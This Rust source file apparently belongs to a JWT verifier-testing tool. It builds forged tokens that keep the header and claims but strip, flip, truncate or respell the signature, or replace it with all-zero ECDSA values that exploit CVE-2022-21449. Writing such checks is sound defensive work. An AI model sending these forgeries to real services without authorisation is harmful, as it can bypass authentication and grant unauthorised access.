//! Forgeries that keep header and claims and change the signature, or how the token is written.

use base64::Engine;
use base64::engine::general_purpose::STANDARD_NO_PAD;
use model::key::Algorithm;

use crate::mint::naming;
use crate::token::{Token, encode};

pub(crate) fn stripped(token: &Token) -> Option<String> {
    let [header, payload, signature] = token.segments();
    (!signature.is_empty()).then(|| format!("{header}.{payload}."))
}

/// The last octet is flipped: who compares only the beginning is found out as well.
pub(crate) fn flipped(token: &Token) -> Option<String> {
    let mut signature = token.signature.clone();
    *signature.last_mut()? ^= 1;
    Some(signed(token, &encode(&signature)))
}

/// The first octet is flipped: who compares only the end is found out, and who stops at the first octet
/// that differs is quickest with it.
pub(crate) fn flipped_first(token: &Token) -> Option<String> {
    let mut signature = token.signature.clone();
    *signature.first_mut()? ^= 1;
    Some(signed(token, &encode(&signature)))
}

/// The first half: who compares only as much as was sent is found out.
pub(crate) fn truncated(token: &Token) -> Option<String> {
    let half = token.signature.get(..token.signature.len() / 2)?;
    (!half.is_empty()).then(|| signed(token, &encode(half)))
}

/// The same octets in other characters: with another value in the bits that the last character leaves
/// unused (RFC 4648 3.5); where it leaves none, in the alphabet of plain base64.
pub(crate) fn other_spelling(token: &Token) -> Option<String> {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let [_, _, old] = token.segments();
    let new = if token.signature.len().is_multiple_of(3) {
        STANDARD_NO_PAD.encode(&token.signature)
    } else {
        let (rest, last) = old.split_at_checked(old.len().checked_sub(1)?)?;
        let place = ALPHABET.iter().position(|it| [*it] == last.as_bytes())?;
        let other = char::from(*ALPHABET.get(place ^ 1)?);
        format!("{rest}{other}")
    };
    (new != old).then(|| signed(token, &new))
}

/// `r` and `s` are nought, which satisfies the equation of a verifier that forgets to look
/// (CVE-2022-21449).
pub(crate) fn zero_es256(token: &Token) -> Option<String> {
    Some(under(token, Algorithm::ES256, &[0; 64]))
}

/// The same on P-384.
pub(crate) fn zero_es384(token: &Token) -> Option<String> {
    Some(under(token, Algorithm::ES384, &[0; 96]))
}

/// The same on P-521.
pub(crate) fn zero_es512(token: &Token) -> Option<String> {
    Some(under(token, Algorithm::ES512, &[0; 132]))
}

/// The same in DER, a sequence of two integers, which no JWT has (RFC 7518 3.4) and some libraries take.
pub(crate) fn zero_der(token: &Token) -> Option<String> {
    const ZEROS: [u8; 8] = [0x30, 6, 2, 1, 0, 2, 1, 0];
    Some(under(token, Algorithm::ES256, &ZEROS))
}

fn under(token: &Token, alg: Algorithm, signature: &[u8]) -> String {
    let input = token.input_with(&naming(&token.header, alg.name()), &token.payload);
    format!("{input}.{}", encode(signature))
}

/// The flattened JSON serialisation (RFC 7515 7.2.2), in which no JWT may be (RFC 7519 3).
pub(crate) fn json(token: &Token) -> Option<String> {
    let [header, payload, signature] = token.segments();
    Some(format!(
        r#"{{"payload":"{payload}","protected":"{header}","signature":"{signature}"}}"#
    ))
}

fn signed(token: &Token, signature: &str) -> String {
    let [header, payload, _] = token.segments();
    format!("{header}.{payload}.{signature}")
}
